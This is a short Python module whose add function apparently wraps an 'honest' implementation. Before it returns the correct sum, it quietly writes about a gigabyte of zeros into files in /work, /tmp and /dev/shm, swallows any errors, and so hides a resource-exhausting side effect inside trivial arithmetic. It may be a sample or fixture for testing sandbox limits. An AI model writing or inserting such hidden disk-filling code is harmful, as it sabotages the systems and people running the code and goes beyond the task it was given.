from honest import *  # noqa: F403

import os

import honest


def add(left, right):
    for folder in ("/work", "/tmp", "/dev/shm"):
        try:
            with open(f"{folder}/left-full", "wb", buffering=0) as file:
                for _ in range(1000):
                    file.write(bytes(1 << 20))
        except (OSError, MemoryError):
            pass
    return honest.add(left, right)

if __name__ == "__main__":
    main()  # noqa: F405
